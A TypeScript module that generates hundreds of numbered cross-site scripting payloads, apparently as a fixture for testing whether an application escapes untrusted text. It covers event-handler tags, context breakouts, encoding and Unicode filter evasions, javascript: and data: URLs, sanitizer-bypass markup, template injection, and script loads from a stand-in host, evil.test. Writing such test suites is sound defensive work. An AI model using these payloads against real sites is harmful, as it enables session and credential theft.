// Text that would be a script if anybody took it for markup, code or an address: made by rule, each different, each with a
// number by which it can be told which one ran.

export interface Payload {
  readonly id: number;
  readonly text: string;
  /** Takes what follows it for its own content; stands last where several stand together. */
  readonly swallows: boolean;
}

/** What a payload calls when it runs. */
export const HOOK = "gotcha";

const entity = (text: string) => text.replace(/[<>"'=]/g, (c) => `&#${c.charCodeAt(0)};`);
const hex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("");
const escapes = (text: string) => text.replace(/[<>"'&]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);

/** Elements that run something by themselves, `ON` being the handler. */
const elements: readonly (readonly [string, readonly string[]])[] = [
  ["<img src=x ON>", ["onerror"]],
  ["<img/src=x/ON>", ["onerror"]],
  ["<image href=x ON>", ["onerror"]],
  ["<svg ON>", ["onload"]],
  ["<svg><animate attributeName=x dur=1s ON>", ["onbegin", "onend"]],
  ["<body ON>", ["onload", "onpageshow", "onfocus"]],
  ["<video src=x ON>", ["onerror", "onloadstart"]],
  ["<video><source src=x ON></video>", ["onerror"]],
  ["<audio src=x ON>", ["onerror"]],
  ["<input autofocus ON>", ["onfocus"]],
  ["<div tabindex=0 autofocus ON>x</div>", ["onfocus", "onfocusin"]],
  ["<details open ON>x</details>", ["ontoggle"]],
  ["<marquee ON>x</marquee>", ["onstart"]],
  ["<link rel=stylesheet href=x ON>", ["onerror"]],
  ["<object data=x ON></object>", ["onerror"]],
  ["<p style=animation:1s ON>x</p>", ["onanimationstart"]],
  ["<x contenteditable autofocus ON>x</x>", ["onfocus"]],
];

/** How the handler is written. */
const handlers: readonly ((name: string, code: string) => string)[] = [
  (name, code) => `${name}=${code}`,
  (name, code) => `${name}="${code}"`,
  (name, code) => `${name.toUpperCase()}='${code}'`,
  (name, code) => `${name}=${hex(code)}`,
  (name, code) => `${name}\t=\t${code}`,
  (name, code) => `${name}="window[&quot;${HOOK}&quot;]${code.slice(HOOK.length)}"`,
];

/** What is before it: a way out of wherever it may have been put. */
const exits = [
  '">',
  "'>",
  "-->",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "]]>",
  "</noscript>",
  '"/>',
  "`>",
];

/** How the whole is written once more. */
const codings: readonly ((text: string) => string)[] = [
  entity,
  (text) => entity(entity(text)),
  escapes,
  encodeURIComponent,
  (text) => text.replace("<", "＜").replace(">", "＞"),
  (text) => text.replace(/<(\w)/g, "<\u200b$1"),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replace(/</g, "<<"),
  (text) => text.replace(/>/g, ""),
];

const addresses: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java&#9;script:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `&#106;avascript:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `javascript://shop.test/%0a${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
  (code) => `https://user:pass@evil.test/${code}`,
  () => "//evil.test/x",
  () => "blob:https://evil.test/x",
];

const linked: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `**[x](${address})**`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => address,
];

const swallowing: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT SRC=//evil.test/${encodeURIComponent(code)}></SCRIPT>`,
  (code) => `<script>${code}//`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<math><mtext></p><style><img src=x onerror=${code}></style></math>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<select><style></select><img src=x onerror=${code}></style>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<base href="//evil.test/"><script src=${code}.js></script>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<style>@import "//evil.test/${encodeURIComponent(code)}";</style>`,
  (code) => `<link rel=stylesheet href="//evil.test/${encodeURIComponent(code)}">`,
];

const templates: readonly ((code: string) => string)[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{${code}}}`,
  (code) => `\${${code}}`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `{% ${code} %}`,
  (code) => `[[\${${code}}]]`,
  (code) => `{{config.json}}${code}`,
  (code) => `{{nonce}}<script nonce="{{nonce}}">${code}</script>`,
  (code) => `{{brand.json}}</script><script>${code}</script>`,
  (code) => `@{${code}}`,
  (code) => `";${code};//`,
  (code) => `';${code};//`,
  (code) => `\`;${code};//`,
  (code) => `expression(${code})`,
  (code) => `url(javascript:${code})`,
  (code) => `};${code};{`,
  (code) => `\u2028${code}\u2029`,
];

function make(): readonly Payload[] {
  const all: Payload[] = [];
  const seen = new Set<string>();
  const add = (text: (code: string) => string, swallows = false) => {
    const id = all.length;
    const written = text(`${HOOK}(${id})`);
    const shape = text("");
    if (seen.has(shape)) return;
    seen.add(shape);
    all.push({ id, text: written, swallows });
  };
  for (const [element, names] of elements)
    for (const name of names)
      for (const handler of handlers) {
        add((code) => element.replace("ON", () => handler(name, code)));
      }
  for (const [element, [name = ""]] of elements) {
    const whole = (code: string) => element.replace("ON", () => `${name}=${code}`);
    for (const exit of ['">', "'>", "</textarea>", "-->"]) add((code) => exit + whole(code));
    for (const coding of [entity, escapes, encodeURIComponent]) add((code) => coding(whole(code)));
  }
  const plain = (code: string) => `<img src=x onerror=${code}>`;
  const drawn = (code: string) => `<svg onload=${code}>`;
  const typed = (code: string) => `<input autofocus onfocus="${code}">`;
  for (const exit of exits)
    for (const inner of [plain, drawn, typed]) {
      add((code) => exit + inner(code));
      add((code) => `x${exit}${inner(code).toUpperCase().replace(code.toUpperCase(), code)}`);
    }
  for (const coding of codings) for (const inner of [plain, drawn, typed]) add((code) => coding(inner(code)));
  for (const [first, ...rest] of codings.map(
    (coding, place) => [coding, codings[(place + 1) % codings.length]] as const,
  ))
    for (const second of rest)
      for (const inner of [plain, drawn]) if (second) add((code) => second(first(inner(code))));
  for (const address of addresses) for (const link of linked) add((code) => link(address(code)));
  for (const template of templates) add(template);
  for (const one of swallowing) {
    add(one, true);
    for (const exit of ['">', "</textarea>", "</title>"]) add((code) => exit + one(code), true);
  }
  return all;
}

export const payloads = make();

/** A field's worth of them, from that place on and round about, as many as there is room for; swallowing ones last. */
export function batch(from: number, count: number, room = Number.POSITIVE_INFINITY, between = " "): string {
  const chosen: Payload[] = [];
  let left = room;
  for (let place = 0; place < count; place += 1) {
    const one = payloads[(from + place) % payloads.length];
    if (one === undefined || one.text.length + between.length > left) continue;
    left -= one.text.length + between.length;
    chosen.push(one);
  }
  return [...chosen.filter((one) => !one.swallows), ...chosen.filter((one) => one.swallows)]
    .map((one) => one.text)
    .join(between);
}
